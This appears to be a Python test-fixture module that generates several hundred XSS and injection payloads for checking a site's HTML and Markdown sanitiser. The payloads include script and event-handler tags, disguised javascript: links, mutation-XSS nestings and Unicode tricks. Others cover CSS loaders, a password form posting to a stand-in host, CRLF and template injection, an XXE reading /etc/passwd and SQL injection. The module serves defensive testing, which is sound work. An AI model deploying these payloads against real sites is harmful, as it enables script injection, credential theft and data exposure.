"""What somebody might write to make a page do what it should not.

Made from classes: every class is a rule (tags × events × ways to write them, schemes × disguises, …) or a list of what
no rule makes. Whatever of it came to life would call `RAN` or ask `ELSEWHERE` for something, which no page of ours does.
"""

import html
import itertools
import unicodedata
from collections.abc import Iterator
from urllib.parse import quote

RAN = "__ran(1)"
ELSEWHERE = "https://elsewhere.example/hostile"

EVENTS = ("onload", "onerror", "onclick", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbeforetoggle",
          "onpointerenter", "onbegin", "onpageshow", "onscrollend")  # fmt: skip
TAGS = ("img", "svg", "body", "details", "video", "audio", "input", "iframe", "marquee", "object", "math", "a", "p",
        "select", "style", "custom-tag")  # fmt: skip
SCHEMES = ("javascript", "vbscript", "data", "livescript", "mocha", "jar", "blob", "filesystem", "feed:javascript",
           "view-source:javascript", "ms-its", "intent")  # fmt: skip


def scripts() -> Iterator[str]:
    """Script elements, as they are written and as browsers forgive them."""
    src = f'src="{ELSEWHERE}/s.js"'
    yield f"<script>{RAN}</script>"
    yield f"<SCRIPT>{RAN}</SCRIPT>"
    yield f"<script\n>{RAN}</script\n>"
    yield f"<script/x>{RAN}</script/x>"
    yield f"<script\x0c{src}></script>"
    yield f"<script {src}></script>"
    yield f"<script type=module {src}></script>"
    yield f"<<script>{RAN}//<</script>"
    yield f"<scr<script>ipt>{RAN}</scr</script>ipt>"
    yield f"<script>{RAN}"
    yield f"</p><script>{RAN}</script><p>"
    yield f"<script>/*{'*' * 40}*/{RAN}</script>"
    yield f"<script nonce=x integrity=y>{RAN}</script>"
    yield f"<noscript><p title='</noscript><script>{RAN}</script>'>"
    yield f"<script><!--\n{RAN}\n--></script>"
    yield f"\n\n<script>\n{RAN}\n</script>\n\n"


def handlers() -> Iterator[str]:
    """Every tag with events that it or its neighbours know, in the ways that attributes are written."""
    shapes = (
        '<{tag} {event}="{ran}">',
        "<{tag} {event}={ran}>",
        "<{tag}/{event}={ran}//",
        "<{tag}\n{event}\n=\n'{ran}' src=x tabindex=1 autofocus>",
        '<{tag} x="y"{event}="{ran}">',
        "<{tag} src=x {EVENT}=`{ran}`>",
    )
    for number, (tag, event) in enumerate(itertools.product(TAGS, EVENTS)):
        if number % 3 == 0:
            yield shapes[number // 3 % len(shapes)].format(tag=tag, event=event, EVENT=event.upper(), ran=RAN)


def breakouts() -> Iterator[str]:
    """Out of an attribute, an element, a comment or a string, into the page around it."""
    lives = (f"<img src=x onerror={RAN}>", f"<svg onload={RAN}>")
    ends = ('">', "'>", "</title>", "</textarea>", "</p></div></main>", "</script>", "-->", "]]>", "</style>",
            "</template>", "</summary></details>", "</option></select>", "</button></form>", "%>", "?>", "\\\">")  # fmt: skip
    for number, end in enumerate(ends):
        yield end + lives[number % 2]
    quotes = ('"', "'", "`", "&quot;", "&#39;", "\\x22", "%22", "“")
    for sign in quotes:
        yield f"x{sign} onmouseover={sign}{RAN}{sign} autofocus onfocus={sign}{RAN}"
        yield f"{sign};{RAN};//"


def addresses() -> Iterator[str]:
    """Addresses that are programs, behind every disguise that a browser or a parser may see through."""
    calls = {"data": f"text/html,<script>{RAN}</script>", "ms-its": f"{ELSEWHERE}::/x"}
    for scheme in SCHEMES:
        yield f"[words]({scheme}:{calls.get(scheme, RAN)})"
    body = f"javascript:{RAN}"
    disguised = (
        body.upper(),
        "JaVaScRiPt:" + RAN,
        "&#106;avascript:" + RAN,
        "&#x6a;avascript:" + RAN,
        "&#0000106&#0000097vascript:" + RAN,
        "javascript&colon;" + RAN,
        "javascript&#58;" + RAN,
        "java&Tab;script:" + RAN,
        "java&NewLine;script:" + RAN,
        "java\tscript:" + RAN,
        "java\x00script:" + RAN,
        "java\x01script:" + RAN,
        "\x01javascript:" + RAN,
        "\x1fjavascript:" + RAN,
        "java\u200bscript:" + RAN,
        "java\u00adscript:" + RAN,
        "\ufeffjavascript:" + RAN,
        "\u2028javascript:" + RAN,
        "\u00a0javascript:" + RAN,
        "java\\script:" + RAN,
        "javascript\\:" + RAN,
        "java%73cript:" + RAN,
        "javascript%3A" + RAN,
        "%6aavascript:" + RAN,
        "ｊavascript:" + RAN,
        "javaſcript:" + RAN,
        "javascript：" + RAN,
        "javascript://x%0A" + RAN,
        "javascript:/**/" + RAN,
        "//javascript:" + RAN,
        "x:javascript:" + RAN,
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;" + RAN,
    )
    for number, address in enumerate(disguised):
        yield (f"[words]({address})", f"[words](<{address}>)", f"[w][r]\n\n[r]: {address}")[number % 3]
        if number % 2:
            yield f"<{address}>"
    yield f"<a href='{body}'>words</a>"
    yield f"[words](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19yYW4oMSk+ '{RAN}')"
    yield f"[words](data:text/html;charset=utf-7,+ADw-script+AD4-{RAN}+ADw-/script+AD4-)"
    yield f"![x]({body})"
    yield f"![x]({ELSEWHERE}/picture.png)"
    yield "[words](\\\\elsewhere.example\\share)"
    yield "[words](///elsewhere.example/%2f..)"


def markdown() -> Iterator[str]:
    """Where Markdown meets HTML: titles, labels, references, fences, lists, quotations and our own two blocks."""
    live = f"<img src=x onerror={RAN}>"
    yield f'[words](https://a.example "{live}")'
    yield f"[words](https://a.example 'a\" onmouseover=\"{RAN}')"
    yield f'[words](https://a.example (" onfocus={RAN} autofocus x="))'
    yield f'[words](https://a.example/"onmouseover="{RAN})'
    yield f"[words](https://a.example/'onmouseover='{RAN})"
    yield f"[words](https://a.example/<script>{RAN}</script>)"
    yield f"[{live}](https://a.example)"
    yield f"[`{live}`](https://a.example)"
    yield f"[a]: https://a.example/\"onclick={RAN} '{live}'\n\n[a]"
    yield f"[{live}]: x\n\n[{live}]"
    yield f"[a][b][c]\n\n[b]: javascript:{RAN}\n[c]: vbscript:{RAN}"
    yield f"[a\n[b](javascript:{RAN})](https://a.example)"
    yield f"[[a](javascript:{RAN})](javascript:{RAN})"
    yield f"[a](https://a.example)(javascript:{RAN})"
    yield f"[a](\njavascript:{RAN}\n)"
    yield f"<https://a.example/{live}>"
    yield f'<https://a.example/"onload={RAN}>'
    yield f'<x@a.example"onload={RAN}>'
    yield f'https://a.example/"onload="{RAN}'
    yield f"https://a.example/?q=<script>{RAN}</script>"
    yield f'https://"onload={RAN}//@a.example'
    yield f"a.example/'onload='{RAN}"
    yield f"x@a.example?body=<script>{RAN}</script>"
    yield f"www.a.example/</a>{live}"
    yield f"`{live}`"
    yield f"``{live}` {live}"
    yield f"```{live}\n{live}\n```"
    yield f'```x" onload="{RAN}\nwords\n```'
    yield f"~~~\n</code></pre>{live}"
    yield f"    {live}"
    yield f"\t</pre>{live}"
    yield f"- {live}\n  1. {live}\n     > {live}"
    yield f"999999999. {live}"
    yield f"> > > {live}\n{live}"
    yield f"# {live}\n{live}\n==="
    yield f"**{live}*__{live}_**~~{live}~"
    yield f"*_*_[{live}](javascript:{RAN})_*_*"
    yield f"&lt;script&gt;{RAN}&lt;/script&gt;"
    yield f"&amp;lt;script&amp;gt;{RAN}&amp;lt;/script&amp;gt;"
    yield f"&#60;img src=x onerror={RAN}&#62;"
    yield f"&#x3c;img src=x onerror={RAN}&#x3e;"
    yield f"\\<img src=x onerror={RAN}\\>"
    yield f"\\\\<img src=x onerror={RAN}\\\\>"
    yield f"a  \n{live}\\\n{live}"
    yield f"|{live}|{live}|\n|-|-|\n|{live}|[x](javascript:{RAN})|"
    yield f"[^1]\n\n[^1]: {live}"
    yield f"<!-- {live} -->"
    yield f"<!--> {live} -->"
    yield f"<!DOCTYPE html><html {EVENTS[0]}={RAN}>"
    yield f"<?xml version='1.0'?><?php {RAN} ?>"
    yield f"<![CDATA[{live}]]>"
    yield f":::mentions loss {live}\n{live}\n:::"
    yield f':::mentions loss " onmouseover="{RAN}\nwords\n:::'
    yield f":::mentions loss </summary></details>{live}\nwords"
    yield f":::mentions {live} x\nwords\n:::"
    yield f':::mentions loss\n[x](https://a.example "</details>{live}")\n:::'
    yield f':::mentions loss <details class="veil" data-kind="loss">\n</details>{live}\n:::'
    yield f":::helped\n{live}\n</div>{live}\n:::"
    yield f":::helped {live}\nwords\n:::"
    yield f":::mentions loss &lt;img src=x onerror={RAN}&gt;\n&lt;/details&gt;\n:::"
    yield f"@\"{live}\" @'{live}'"


def nested() -> Iterator[str]:
    """Markup that means one thing when it is read once and another when it is read again."""
    live = f"<img src=x onerror={RAN}>"
    coded = html.escape(live)
    roots, inner = (
        ("svg", "math"),
        ("style", "title", "noscript", "template", "textarea", "xmp", "iframe", "noembed"),
    )
    for root, child in itertools.product(roots, inner):
        yield f'<{root}></p><{child}><a id="</{child}>{live}">'
    for child in inner:
        yield f"<{child}><!--</{child}>{live}-->"
    joints = (
        ("mtext", "mglyph"),
        ("mi", "malignmark"),
        ("mo", "mglyph"),
        ("mn", "malignmark"),
        ("annotation-xml", "svg"),
    )
    for one, other in joints:
        yield f'<math><{one}><table><{other}><style><!--</style><p title="--&gt;{coded}">'
        yield f"<form><math><{one}></form><form><{other}><style></math>{live}"
    for point in ("desc", "foreignObject", "title"):
        yield f"<svg><{point}><![CDATA[</{point}>]]>{live}"
        yield f'<svg><{point}><style><a title="</style></svg>{coded}{live}">'
    yield f'<select><template><style><!--</style><a rel="--></style></template></select>{live}">'
    yield f'<p id="&#x0;</p>{live}"><table><td></p>{live}'
    yield f"<a><b><a><b><i></a>{live}</b></i>"
    yield f"<table><tr><td><svg><desc><td><title></svg>{live}"
    yield f"<d<script></script>iv><im</script>g src=x onerror={RAN}>"
    yield f"<isindex type=image src=x onerror={RAN} formaction=javascript:{RAN}>"
    yield f"<plaintext>{live}"
    yield "<div>" * 600 + live
    yield "<b>" * 300 + "<i>" * 300 + f"</b>{live}"


def frames() -> Iterator[str]:
    """What loads, embeds, sends or leads elsewhere by being there."""
    yield from (
        f'<iframe src="javascript:{RAN}"></iframe>',
        f'<iframe srcdoc="&lt;script&gt;parent.{RAN}&lt;/script&gt;"></iframe>',
        f'<object data="data:text/html,<script>{RAN}</script>"></object>',
        f'<embed src="{ELSEWHERE}/e.swf">',
        f'<base href="{ELSEWHERE}/">',
        f'<meta http-equiv=refresh content="0;url=javascript:{RAN}">',
        f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
        f"<meta name=referrer content=unsafe-url><img src={ELSEWHERE}/r.png>",
        f'<link rel=stylesheet href="{ELSEWHERE}/s.css">',
        f'<link rel=preload as=script href="{ELSEWHERE}/s.js">',
        f'<link rel=prefetch href="{ELSEWHERE}/p"><link rel=dns-prefetch href=//elsewhere.example>',
        f'<img srcset="{ELSEWHERE}/a.png 1x" sizes=1px>',
        f"<picture><source srcset={ELSEWHERE}/b.png><img></picture>",
        f"<video poster={ELSEWHERE}/v.png><track src={ELSEWHERE}/t.vtt default></video>",
        f"<audio src={ELSEWHERE}/a.ogg autoplay>",
        f"<input type=image src={ELSEWHERE}/i.png>",
        f"<form action={ELSEWHERE}><input name=password type=password><button>Sign in</button></form>",
        f"<button form=say formaction={ELSEWHERE}>Send</button>",
        "<form id=say><input name=csrf_token value=x></form><img name=body><a id=forms>",
        f"<a id=policy name=createHTML href={ELSEWHERE}>x</a>",
        f"<svg><image href={ELSEWHERE}/x.svg /><use href=\"data:image/svg+xml,<svg id='x' onload='{RAN}'/>#x\"/></svg>",
        f'<svg><a xlink:href="javascript:{RAN}"><text y=20>words</text></a></svg>',
        f'<svg><animate attributeName=href values="javascript:{RAN}" /></svg>',
        f"<svg><set attributeName=onmouseover to={RAN}></svg>",
        f"<svg><script href={ELSEWHERE}/x.js></script><script>{RAN}</script></svg>",
        f"<svg><foreignObject><iframe src={ELSEWHERE}></iframe></foreignObject></svg>",
        f'<math href="javascript:{RAN}">words</math>',
        f'<math><maction actiontype=statusline xlink:href="javascript:{RAN}">words</maction></math>',
        f'<body background={ELSEWHERE}/b.png><table background="javascript:{RAN}">',
        f"<applet code=x archive={ELSEWHERE}/a.jar></applet>",
        f"<portal src={ELSEWHERE}></portal><fencedframe src={ELSEWHERE}></fencedframe>",
        f'<frameset onload={RAN}><frame src="javascript:{RAN}"></frameset>',
        "<dialog open id=main><form method=dialog></dialog><div popover id=p></div><button popovertarget=p>x</button>",
        f"<template shadowrootmode=open><script>{RAN}</script><slot></slot></template>",
        f'<portal/onload={RAN}><bgsound src="javascript:{RAN}"><layer src={ELSEWHERE}>',
        f'<?xml-stylesheet href="javascript:{RAN}"?><x xmlns="http://www.w3.org/1999/xhtml" onload="{RAN}"/>',
    )


def styles() -> Iterator[str]:
    """Style that loads, covers the page, or once ran."""
    yield from (
        f"<style>@import '{ELSEWHERE}/s.css';</style>",
        f"<style>body{{background:url({ELSEWHERE}/b.png)}}</style>",
        f"<style>@font-face{{font-family:x;src:url({ELSEWHERE}/f.woff)}}*{{font-family:x}}</style>",
        f"<style>input[value^=a]{{background:url({ELSEWHERE}/a)}}</style>",
        f"<p style=\"background:url({ELSEWHERE}/p.png)\">words</p>",
        f"<p style=\"width:expression({RAN})\">words</p>",
        f"<p style=\"background:url('javascript:{RAN}')\">words</p>",
        f"<p style=\"-moz-binding:url({ELSEWHERE}/x.xml#x)\">words</p>",
        "<p style=\"position:fixed;inset:0;z-index:9999;background:#fff\">Please sign in again.</p>",
        f"<p style='x:\\65xpression({RAN})'>words</p>",
        f"<p style=x:exp/**/ression({RAN})>words</p>",
        f"<style><!--</style><script>{RAN}</script>-->",
        f"<style>@keyframes x{{}}</style><b style=\"animation-name:x\" onanimationstart=\"{RAN}\">words</b>",
        f"<div class=\"mantel btn--leave\" id=main style=behavior:url({ELSEWHERE}/x.htc)>words</div>",
    )  # fmt: skip


def letters() -> Iterator[str]:
    """Letters that turn into others when they are normalised, decoded or cut, and some that turn the line round."""
    live = f"<img src=x onerror={RAN}>"
    wide = "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in live)
    assert unicodedata.normalize("NFKC", wide) == live
    yield wide
    yield f"﹤img src=x onerror={RAN}﹥"
    yield f"‹script›{RAN}‹/script›"
    yield f"\u2039img src=x onerror={RAN}\u203a\u2028{live}\u2029"
    yield f"\ufeff{live}"
    yield f"<\ufeffimg src=x onerror={RAN}>"
    yield f"<im\u200bg src=x onerror={RAN}>"
    yield f"<img\u00a0src=x\u3000onerror={RAN}>"
    yield f"<img src=x on\u200derror={RAN}>"
    yield f"\u202e{live}\u202c"
    yield f"\u2066<script>{RAN}</script>\u2069 \u2067 \u200f"
    yield f"<ſcript>{RAN}</ſcript>"
    yield f"<ＳＣＲＩＰＴ>{RAN}</ＳＣＲＩＰＴ>"
    yield f"<scrıpt>{RAN}</scrıpt><İmg src=x onerror={RAN}>"
    yield f"\u00bcscript\u00be{RAN}\u00bc/script\u00be"
    yield f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-"
    yield "\x1b$B" + live + "\x1b(J"
    yield bytes((0xC0, 0xBC)).decode("latin-1") + f"script>{RAN}"
    yield f"\ud83d{live}\udc00"
    yield f"a\u0338<\u0338img src=x onerror={RAN}>\u0338"
    yield "".join(f"{c}\u0301\u0323" for c in live)
    yield "".join(chr(0xE0000 + ord(c)) for c in live) + live
    yield quote(live)
    yield quote(quote(live))
    yield "".join(f"\\u{ord(c):04x}" for c in live)
    yield "".join(f"\\x{ord(c):02x}" for c in live)
    yield "".join(f"&#{ord(c)};" for c in live)
    yield "".join(f"&#x{ord(c):X}" for c in live)
    yield "&lt;" * 20 + live + "&gt;" * 20


def controls() -> Iterator[str]:
    """Controls in the middle of markup, and what ends a line, a header, a frame or a file."""
    for code in (0, 1, 8, 9, 10, 11, 12, 13, 27, 31, 127, 133, 160):
        sign = chr(code)
        yield f"<img{sign}src=x{sign}onerror={sign}={RAN}>"
        if code < 32:
            yield f"<{sign}script>{RAN}</{sign}script>"
    yield f"words\r\nSet-Cookie: x=1\r\n\r\n<script>{RAN}</script>"
    yield f"words\r\n.\r\nMAIL FROM:<x@elsewhere.example>\r\n<script>{RAN}</script>"
    yield f"words\nBcc: x@elsewhere.example\nContent-Type: text/html\n\n<script>{RAN}</script>"
    yield f"data: words\n\nevent: x\ndata: <script>{RAN}</script>\n\n"
    yield f'=HYPERLINK("{ELSEWHERE}","words")<script>{RAN}</script>'


def templates() -> Iterator[str]:
    """What a template engine, a script or a reader of JSON might take for its own."""
    yield from (
        "{{7*7}}<b>{{ config }}</b>",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{{ self.__init__.__globals__ }}",
        "{{ cycler|attr('__init__') }}{# x #}",
        "{{ '<script>' ~ '" + RAN + "' ~ '</script>' |safe }}",
        "${7*7}${" + RAN + "}",
        "#{7*7}<%= 7*7 %>@{7*7}",
        "[[7*7]]{{constructor.constructor('" + RAN + "')()}}",
        "<div v-html=\"'<img src=x onerror=" + RAN + ">'\" ng-app ng-csp x-data x-init=\"" + RAN + "\"></div>",
        "<img src=x data-bind=\"click: " + RAN + "\" data-draft=x data-read data-topic=x data-leave>",
        "%(words)s %s {0} {actor.password_hash} {request}",
        "</script><script>" + RAN + "</script>",
        "<!--<script>" + RAN + "//--></script>",
        "\"}];" + RAN + "//",
        "{\"html\":\"<img src=x onerror=" + RAN + ">\",\"__proto__\":{\"html\":\"x\"}}",
        "__proto__[innerHTML]=<img src=x onerror=" + RAN + ">",
        "42[\"message:send\",{\"html\":\"<script>" + RAN + "</script>\"}]",
        "\u2028" + RAN + "\u2029//</script>",
        "'-" + RAN + "-'",
        "`${" + RAN + "}`",
        "*/" + RAN + "/*",
        "]]></html><script xmlns=\"http://www.w3.org/1999/xhtml\">" + RAN + "</script>",
        "<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;<script>" + RAN + "</script>",
        "../../../../etc/passwd\x00.html<script>" + RAN + "</script>",
        "' OR 1=1 --<script>" + RAN + "</script>",
    )  # fmt: skip


CLASSES = (
    scripts, handlers, breakouts, addresses, markdown, nested, frames, styles, letters, controls, templates,
)  # fmt: skip

PAYLOADS: dict[str, str] = {
    f"{made.__name__}-{number}": payload for made in CLASSES for number, payload in enumerate(made())
}
"""Every payload by a name that a failure can be found by."""


def bundled(size: int = 6, limit: int = 2_000) -> list[str]:
    """All payloads in fewer texts: those that would swallow what follows them alone, the others a few together."""
    alone = [
        words
        for words in PAYLOADS.values()
        if any(sign in words for sign in ("```", "~~~", ":::")) or len(words) > 400
    ]
    others = [words for words in PAYLOADS.values() if words not in alone]
    groups = ["\n\n".join(others[start : start + size]) for start in range(0, len(others), size)]
    return [words[:limit] for words in alone + groups]
